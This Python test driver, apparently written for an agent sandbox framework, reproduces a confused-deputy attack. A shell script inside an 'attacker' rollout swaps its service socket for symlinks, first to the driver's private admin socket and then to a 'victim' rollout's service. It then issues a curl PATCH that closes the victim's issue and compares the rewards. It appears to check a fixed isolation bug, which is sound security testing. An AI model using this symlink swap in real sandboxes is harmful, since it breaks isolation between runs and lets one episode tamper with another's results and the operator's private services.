"""The confused-deputy attack, run as its own driver process (as root, or as a normal user): two
claw rollouts under a service fault; the attacker swaps its service's socket for a symlink — to the
driver's private 0700 socket, then to the victim rollout's service — and calls through the fault
forwarder. Prints one JSON report.

Usage: ``python _deputy.py BASE_DIR``.
"""

from __future__ import annotations

import asyncio
import json
import os
import shlex
import stat
import sys
from pathlib import Path

from openforge.launchers.base import SandboxSpec
from openforge.launchers.local import LocalLauncher
from openforge.plugins import make_environment

CLOSE = "curl -s -X PATCH $CLAW_API/issues/2 -H 'content-type: application/json' -d '{\"state\":\"closed\"}'"


async def private_server(path: Path) -> asyncio.AbstractServer:
    """The driver's private HTTP service (an admin socket in a 0700 directory)."""

    async def handle(r: asyncio.StreamReader, w: asyncio.StreamWriter) -> None:
        try:
            while await r.readline() not in (b"\r\n", b"\n", b""):
                pass
            w.write(b"HTTP/1.1 200 OK\r\ncontent-length: 14\r\nconnection: close\r\n\r\nDRIVER-PRIVATE")
            await w.drain()
        finally:
            w.close()

    path.parent.mkdir(mode=0o700)
    return await asyncio.start_unix_server(handle, str(path))


async def main(base: Path) -> dict:
    env = make_environment("claw", faults=[{"kind": "service_unavailable", "calls": 1}])
    task = env.task("issues-close")
    private_sock = base / "driver-private" / "admin.sock"
    private = await private_server(private_sock)
    launcher = LocalLauncher(base_dir=base / "sbx")

    def spec(rid: str) -> SandboxSpec:
        return SandboxSpec(rollout_id=rid, task=task, proxy_url="http://127.0.0.1:9", api_key="k")

    sa, sb = await launcher.start(spec("attacker")), await launcher.start(spec("victim"))
    try:
        await env.setup(task, sa)
        await env.setup(task, sb)
        own = env.inner._servers[id(sa)][0].uds  # the attacker's own claw service socket (host path)
        victim = env.inner._servers[id(sb)][0].uds
        # The attacker is told both host paths (mountinfo or its own rollout dir told it, before the fix).
        script = "\n".join([
            "curl -s $CLAW_API/issues >/dev/null  # the injected 503",
            f"rm -f {shlex.quote(own)} && ln -s {shlex.quote(str(private_sock))} {shlex.quote(own)} && echo SWAPPED-1",
            "echo; curl -s $CLAW_API/; echo",
            f"rm -f {shlex.quote(own)} && ln -s {shlex.quote(victim)} {shlex.quote(own)} && echo SWAPPED-2",
            CLOSE, "echo",
        ])
        r = await sa.exec(["sh", "-c", script], env=env.harness_env(task, sa), timeout_s=60)
        return {"out": r.stdout + r.stderr, "own_is_socket": stat.S_ISSOCK(os.lstat(own).st_mode),
                "victim_reward": (await env.verify(task, sb)).reward, "own_reward": (await env.verify(task, sa)).reward}
    finally:
        for s in (sa, sb):
            await env.teardown(task, s)
            await s.close()
        await launcher.aclose()
        private.close()


if __name__ == "__main__":
    print(json.dumps(asyncio.run(main(Path(sys.argv[1])))), flush=True)
